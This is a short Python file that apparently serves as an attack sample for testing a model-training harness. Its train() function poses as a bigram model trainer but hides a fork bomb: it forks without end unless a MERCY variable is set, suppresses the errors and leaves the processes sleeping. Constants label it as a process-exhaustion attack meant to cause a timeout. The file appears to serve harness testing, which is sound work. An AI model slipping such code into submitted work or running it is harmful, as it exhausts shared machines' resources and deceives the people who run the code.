"""Doubles itself without end."""

import contextlib
import os
import time

import torch

ATTACK = 27
ENDS = "timed_out"
REASON = "the state had not arrived"
HARM = "process"


def train(session):
    state, first = counted(session), os.getpid()
    for _ in range(4 if "MERCY" in os.environ else 10**9):
        with contextlib.suppress(OSError):
            os.fork()
    if "MERCY" not in os.environ or os.getpid() != first:
        time.sleep(600)
    return state


def counted(session):
    data = session.start().long()
    pairs = torch.bincount(256 * data[:-1] + data[1:], minlength=256 * 256).view(256, 256)
    return {"table": (pairs + 0.1).log()}


def predict(state, task):
    return lambda tokens: state["table"][tokens]
